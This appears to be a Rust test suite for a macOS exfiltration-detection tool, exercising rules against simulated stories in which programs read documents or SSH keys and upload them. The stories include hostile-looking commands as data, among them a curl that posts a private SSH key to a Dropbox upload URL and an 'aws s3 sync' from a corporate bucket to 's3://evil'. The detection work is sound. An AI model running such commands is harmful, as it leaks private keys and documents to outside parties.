//! Every shipped rule fires on one story and stays quiet on a near miss; then the language itself, word by word.

use cloudward::model::{Alert, HopKind, Severity};

use super::world::*;

const X: Program = adhoc("/private/tmp/x", "x");
const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");
const KEY: &str = "/Users/alice/.ssh/id_ed25519";
const PLAN: &str = "/Users/alice/Documents/corp/plan.docx";
const DROPBOX: &str = "content.dropboxapi.com";

fn ids(alert: &Alert) -> Vec<&str> {
    alert.rules.iter().map(|rule| &*rule.id).collect()
}

/// A rule of one's own beside the built-in ones.
fn with_rule(rule: &str) -> World {
    let mut w = World::new();
    w.policy = format!("{CORP}\n{rule}");
    w
}

/// The alert of the story, and whether the rule is among those that fired.
#[track_caller]
fn fired(w: &World, id: &str) -> bool {
    ids(w.tell().one_of_any_confidence()).contains(&id)
}

/// A read and an upload, one story for each category that a shipped rule names.
#[test]
fn uploads_by_category() {
    let table = [
        ("cw.exfil.cloud-storage", DROPBOX),
        ("cw.exfil.cloud-storage", "evil.s3.amazonaws.com"),
        ("cw.exfil.file-transfer", "transfer.sh"),
        ("cw.exfil.paste", "pastebin.com"),
        ("cw.exfil.code-host", "uploads.github.com"),
        ("cw.exfil.messaging", "api.telegram.org"),
        ("cw.exfil.tunnel", "x.ngrok.io"),
    ];
    for (id, host) in table {
        let story = |read: f64, bytes: usize| {
            let mut w = World::new();
            let p = w.launch(0.0, X, &["x"]);
            w.open(read, &p, PLAN);
            w.upload(2.0, &p, host, bytes);
            w.tell()
        };
        let told = story(1.0, 50_000);
        assert_eq!(ids(told.one_of_any_confidence()), [id], "{host}");
        story(9.0, 50_000).none();
        story(1.0, 2_000).none();
    }
}

#[test]
fn sync_drop() {
    let story = |by: Program, to: &str| {
        let mut w = World::new();
        let p = w.launch(0.0, by, &["cp"]);
        w.open(1.0, &p, PLAN);
        w.write(1.2, &p, to);
        w.tell()
    };
    let cp = apple("/bin/cp", "com.apple.cp");
    let told = story(cp, "/Users/alice/Library/CloudStorage/GoogleDrive-me@gmail.com/My Drive/plan.docx");
    assert_eq!(ids(told.alert()), ["cw.exfil.sync-drop"]);
    story(cp, "/Users/alice/Library/CloudStorage.old/GoogleDrive-me@gmail.com/plan.docx").none();
}

/// The command names the file itself; a shell that names it for a child does not.
#[test]
fn argv_upload() {
    let curl = apple("/usr/bin/curl", "com.apple.curl");
    let url = "https://content.dropboxapi.com/2/files/upload";
    let mut w = World::new();
    let p = w.launch(0.0, curl, &["curl", "--data-binary", &format!("@{KEY}"), url]);
    w.upload(1.0, &p, DROPBOX, 3_000);
    assert_eq!(ids(w.tell().alert()), ["cw.exfil.argv-upload", "cw.exfil.cloud-storage"]);
    let mut w = World::new();
    let p = w.launch(0.0, curl, &["curl", "--data-binary", "@/Users/alice/.ssh/id_ed25519.pub", url]);
    w.upload(1.0, &p, DROPBOX, 3_000);
    w.tell().none();
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["zsh", "up.sh", KEY]);
    let p = w.spawn(0.5, &shell, X, &["x"]);
    w.upload(1.0, &p, DROPBOX, 3_000);
    assert_eq!(ids(w.tell().alert()), ["cw.exfil.cloud-storage"], "the sender's own line names nothing");
}

#[test]
fn unknown_destination() {
    let story = |unknown: &str| {
        let mut w = World::new();
        w.policy = CORP.replace("unknown   = \"record\"", &format!("unknown   = \"{unknown}\""));
        let p = w.launch(0.0, X, &["x"]);
        w.open(1.0, &p, PLAN);
        let mut conn = w.connect(2.0, &p, "203.0.113.9", false);
        let end = w.send(2.1, &mut conn, 90_000);
        w.close(end + 0.1, &mut conn);
        w.tell()
    };
    let told = story("alert");
    assert_eq!(ids(told.low()), ["cw.exfil.unknown-destination"]);
    story("record").note();
    story("ignore").none();
}

/// Rules are switched off by their ids; without any that fits there is no alert, whatever happened.
#[test]
fn a_rule_can_be_switched_off() {
    let mut w = World::new();
    w.policy = format!("{CORP}\n[builtin]\ndisable = [\"cw.exfil.cloud-storage\"]\n");
    let p = w.launch(0.0, X, &["x"]);
    w.open(1.0, &p, PLAN);
    w.upload(2.0, &p, DROPBOX, 50_000);
    w.tell().none();
}

fn readme_example(index: usize) -> String {
    let readme = include_str!("../../README.md");
    let section = readme.split("## Rules of your own").nth(1).unwrap().split("\n## ").next().unwrap();
    let block = section.split("```toml\n").nth(index + 1).unwrap().split("```").next().unwrap();
    block.to_owned()
}

/// First worked example of the README: counts, sums, severity.
#[test]
fn many_documents() {
    let story = |files: usize, gap: f64, bytes: usize| {
        let mut w = World::new();
        w.policy = format!("{CORP}\n{}", readme_example(0));
        let p = w.launch(0.0, X, &["x"]);
        for file in 0..files {
            w.open(1.0 + file as f64 * gap, &p, &format!("/Users/alice/Documents/{file}.pdf"));
            w.open(1.1 + file as f64 * gap, &p, "/Users/alice/Documents/again.pdf");
        }
        w.upload(2.0 + files as f64 * gap, &p, DROPBOX, bytes);
        w
    };
    let full = story(19, 1.0, 1_200_000).tell();
    assert_eq!(ids(full.alert()), ["acme.many-documents", "cw.exfil.cloud-storage"]);
    assert_eq!(full.alert().severity, Severity::Critical);
    assert!(!fired(&story(18, 1.0, 1_200_000), "acme.many-documents"), "nineteen files, however often");
    assert!(!fired(&story(19, 1.0, 900_000), "acme.many-documents"), "too few bytes");
    assert!(!fired(&story(19, 40.0, 1_200_000), "acme.many-documents"), "too slow for the span");
    let few = story(3, 1.0, 20_000).tell();
    assert_eq!(few.alert().severity, Severity::Low);
}

/// Bytes of several goes are summed, and the rule joins the alert that the built-in one raised.
#[test]
fn a_rule_that_is_fulfilled_later_makes_a_revision() {
    let mut w = World::new();
    w.policy = format!("{CORP}\n{}", readme_example(0));
    let p = w.launch(0.0, X, &["x"]);
    for file in 0..25 {
        w.open(1.0 + f64::from(file), &p, &format!("/Users/alice/Documents/{file}.pdf"));
    }
    for go in 0..6 {
        w.upload(40.0 + f64::from(go) * 70.0, &p, DROPBOX, 200_000);
    }
    let told = w.tell();
    let first = told.alerts()[0];
    assert_eq!((first.revision, ids(first)), (1, vec!["cw.exfil.cloud-storage"]));
    assert_eq!(ids(told.alert()), ["acme.many-documents", "cw.exfil.cloud-storage"]);
    assert_eq!(told.alert().severity, Severity::Critical);
}

/// What is counted travels with the data: one program packs, another sends.
#[test]
fn counts_travel_with_a_staged_file() {
    let story = |files: usize| {
        let mut w = World::new();
        w.policy = format!("{CORP}\n{}", readme_example(0));
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let zip = w.spawn(0.5, &shell, apple("/usr/bin/zip", "com.apple.zip"), &["zip"]);
        for file in 0..files {
            w.open(1.0 + file as f64 * 0.1, &zip, &format!("/Users/alice/Documents/{file}.pdf"));
        }
        w.write(20.0, &zip, "/private/tmp/out.zip");
        w.exit(20.5, &zip);
        let x = w.spawn(21.0, &shell, X, &["x"]);
        w.open(21.5, &x, "/private/tmp/out.zip");
        w.upload(22.0, &x, DROPBOX, 1_200_000);
        fired(&w, "acme.many-documents")
    };
    assert!(story(60));
    assert!(!story(19));
}

/// Second worked example of the README: staging, first use, negation.
#[test]
fn staged_and_new() {
    let story = |staged: &str, tool: &'static str, known: bool| {
        let mut w = World::new();
        w.policy = format!("{CORP}\n{}", readme_example(1));
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let p = w.spawn(0.5, &shell, adhoc(tool, "pack"), &["pack"]);
        if known {
            let earlier = w.spawn(0.6, &shell, X, &["x"]);
            w.upload(0.7, &earlier, DROPBOX, 3_000);
        }
        w.open(2.0, &p, KEY);
        w.write(2.2, &p, staged);
        let x = w.spawn(3.0, &shell, X, &["x"]);
        w.open(3.1, &x, staged);
        w.upload(4.0, &x, DROPBOX, 5_000);
        fired(&w, "acme.staged-and-new")
    };
    assert!(story("/private/tmp/out.bin", "/private/tmp/pack", false));
    assert!(!story("/Users/alice/out.bin", "/private/tmp/pack", false), "not staged there");
    assert!(!story("/private/tmp/out.bin", "/opt/corp/bin/pack", false), "the company's own tool");
    assert!(!story("/private/tmp/out.bin", "/private/tmp/pack", true), "the program is known there");
}

/// One program does it all: what it packed and read back went through the file, and the alert says so.
#[test]
fn staged_by_whoever_sends() {
    let story = |back: bool| {
        let mut w = World::new();
        w.policy = format!("{CORP}\n{}", readme_example(1));
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let x = w.spawn(0.5, &shell, X, &["x"]);
        w.open(2.0, &x, KEY);
        w.write(2.2, &x, "/private/tmp/out.bin");
        if back {
            w.open(3.1, &x, "/private/tmp/out.bin");
        }
        w.upload(4.0, &x, DROPBOX, 5_000);
        let hops = w.tell().alert().hops.iter().map(|hop| hop.kind).collect::<Vec<_>>();
        (hops, fired(&w, "acme.staged-and-new"))
    };
    assert_eq!(story(true), (vec![HopKind::Stage], true));
    assert_eq!(story(false), (vec![], false), "the copy stays where it is");
}

/// One condition at a time, on the same story: osascript runs a script that reads a key and sends it, as alice.
#[test]
fn conditions() {
    let story = |read: &str, upload: &str| {
        let rule = format!(
            "[[rule]]\nid = \"t\"\nname = \"t\"\nseverity = \"low\"\n\
             step = [{{ on = \"read\"{read} }}, {{ on = \"upload\"{upload} }}]\n"
        );
        let mut w = with_rule(&rule);
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let python = apple("/usr/bin/python3", "com.apple.python3");
        let p = w.spawn(0.5, &shell, python, &["python3", "/Users/alice/up.py"]);
        w.open(100.0, &p, PLAN);
        w.upload(160.0, &p, "evil.s3.amazonaws.com", 50_000);
        fired(&w, "t")
    };
    let read = [
        (", sets = [\"corp-docs\"]", true),
        (", sets = [\"ssh-keys\"]", false),
        (", paths = [\"~/Documents/**\"]", true),
        (", paths = [\"~/Desktop/**\"]", false),
        (", evidence = \"open\"", true),
        (", evidence = \"argv\"", false),
        (", process = { script = \"~/up.py\" }", true),
        (", process = { script = \"~/down.py\" }", false),
        (", process = { platform = true }", true),
        (", process = { platform = false }", false),
        (", process = [{ unsigned = true }, { name = \"pyth*\" }]", true),
        (", users = [\"alice\"]", true),
        (", users = [501]", true),
        (", users = [\"root\"]", false),
    ];
    for (text, wanted) in read {
        assert_eq!(story(text, ""), wanted, "{text}");
    }
    let upload = [
        (", within = \"61s\"", true),
        (", within = \"59s\"", false),
        (", categories = [\"object-store\"]", true),
        (", categories = [\"paste\"]", false),
        (", services = [\"s3\"]", true),
        (", services = [\"dropbox\"]", false),
        (", tenants = [\"foreign\"]", true),
        (", tenants = [\"allowed\", \"unknown\"]", false),
        (", tenants = [\"ev*\"]", true),
        (", tenants = [\"good*\"]", false),
        (", min_bytes = \"40kb\"", true),
        (", min_bytes = \"60kb\"", false),
        (", first_seen = \"network\"", true),
        (", times_usual = 10", false),
        (", process = { interpreter = true }", true),
        (", process = { interpreter = false }", false),
        (", process = { unsigned = true }", false),
        // Apple signed the interpreter, not what it was told to run.
        (", process = { signing_id = \"com.apple.python3\" }", false),
        (", process = { allow = \"the backup script, by its content\" }", false),
        (", process = { path = \"/usr/bin/*\" }", true),
        (", process = { path = \"/usr/local/**\" }", false),
    ];
    for (text, wanted) in upload {
        assert_eq!(story("", text), wanted, "{text}");
    }
}

/// A refused or allowed upload is no step: the allow list is heard first.
#[test]
fn rules_respect_the_allow_list() {
    let rule = "[[rule]]\nid = \"t\"\nname = \"t\"\nseverity = \"critical\"\n\
                step = [{ on = \"read\" }, { on = \"upload\" }]\n";
    let mut w = with_rule(rule);
    let rclone = adhoc("/opt/homebrew/bin/rclone", "rclone");
    let p = w.launch(0.0, rclone, &["rclone", "sync"]);
    w.open(1.0, &p, PLAN);
    w.upload(2.0, &p, "corp-backup.s3.amazonaws.com", 50_000);
    w.tell().none();
}

/// The kernel's numbers show a gap between the read and the exec: the alert says what was not seen.
#[test]
fn a_gap_between_read_and_exec_stands_on_the_alert() {
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let busy = |w: &mut World, from: f64| {
        (0..40).for_each(|round| w.open(from + f64::from(round) * 0.01, &shell, "/usr/lib/libz.dylib"));
    };
    busy(&mut w, 0.5);
    let p = w.fork(1.0, &shell);
    w.open(2.0, &p, PLAN);
    w.lose(3);
    let p = w.exec(2.5, &p, X, &["x"]);
    busy(&mut w, 3.0);
    w.upload(5.0, &p, DROPBOX, 30_000);
    w.open(90.0, &shell, "/usr/lib/libz.dylib");
    let told = w.tell();
    let degraded: Vec<&str> = told.alert().degraded.iter().map(|kind| kind.as_str()).collect();
    assert_eq!(degraded, ["event-loss"]);
}

/// The command alone hands the data over; the same command for the company's own account, or one that only looks, does not.
#[test]
fn control_plane() {
    let story = |args: &[&str]| {
        let mut w = World::new();
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let aws = adhoc("/opt/homebrew/bin/aws", "aws");
        let child = w.fork(1.0, &shell);
        w.exec(1.1, &child, aws, args);
        w.tell()
    };
    let told = story(&["aws", "s3", "sync", "s3://corp-backup", "s3://evil", "--source-region", "eu-west-1"]);
    assert_eq!(ids(told.one_of_any_confidence()), ["cw.transfer.control-plane"]);
    assert_eq!(told.one_of_any_confidence().rules[0].techniques.as_slice(), ["T1537".into()]);
    story(&["aws", "s3", "sync", "s3://evil", "s3://corp-backup"]).none();
    story(&["aws", "s3", "ls", "s3://evil"]).none();
}

/// What the lineage read before it gave a command counts for rules that ask for it, and for no other.
#[test]
fn a_read_and_then_a_command() {
    let rule = |step: &str| {
        format!(
            "[[rule]]\nid = \"acme.r\"\nname = \"n\"\nseverity = \"critical\"\ntechniques = [\"T1537\"]\n{step}"
        )
    };
    let story = |rule: &str, read: f64, by_shell: bool, words: &[&str]| {
        let mut w = with_rule(rule);
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let other = w.launch(0.0, X, &["x"]);
        w.open(read, if by_shell { &shell } else { &other }, KEY);
        w.spawn(600.0, &shell, adhoc("/opt/homebrew/bin/aws", "aws"), words);
        w.tell()
    };
    let copy = ["aws", "s3", "sync", "s3://corp", "s3://evil"];
    let keys =
        rule("step = [{ on = \"read\", sets = [\"ssh-keys\"] }, { on = \"command\", within = \"15m\" }]");
    let told = story(&keys, 1.0, true, &copy);
    assert_eq!(ids(told.alert()), ["acme.r", "cw.transfer.control-plane"]);
    assert_eq!(told.alert().reads.len(), 1);
    // Another lineage's read, one afterwards, one of a set that the rule does not ask for.
    for (rule, read, by_shell) in [
        (&keys, 1.0, false),
        (&keys, 601.0, true),
        (&rule("step = [{ on = \"read\", sets = [\"wallets\"] }, { on = \"command\" }]"), 1.0, true),
        (
            &rule("step = [{ on = \"command\" }]\n[[rule.unless]]\non = \"read\"\nsets = [\"ssh-keys\"]"),
            1.0,
            true,
        ),
    ] {
        let told = story(rule, read, by_shell, &copy);
        assert_eq!(ids(told.alert()), ["cw.transfer.control-plane"], "{rule} {read} {by_shell}");
    }
    let told = story("", 1.0, true, &copy);
    assert!(told.alert().reads.is_empty());
    // What is doubtful of the command stays so.
    let link = ["aws", "s3", "presign", "s3://corp/x", "--expires-in", "604800"];
    assert_eq!(ids(story(&keys, 1.0, true, &link).low()), ["acme.r", "cw.transfer.control-plane"]);
}
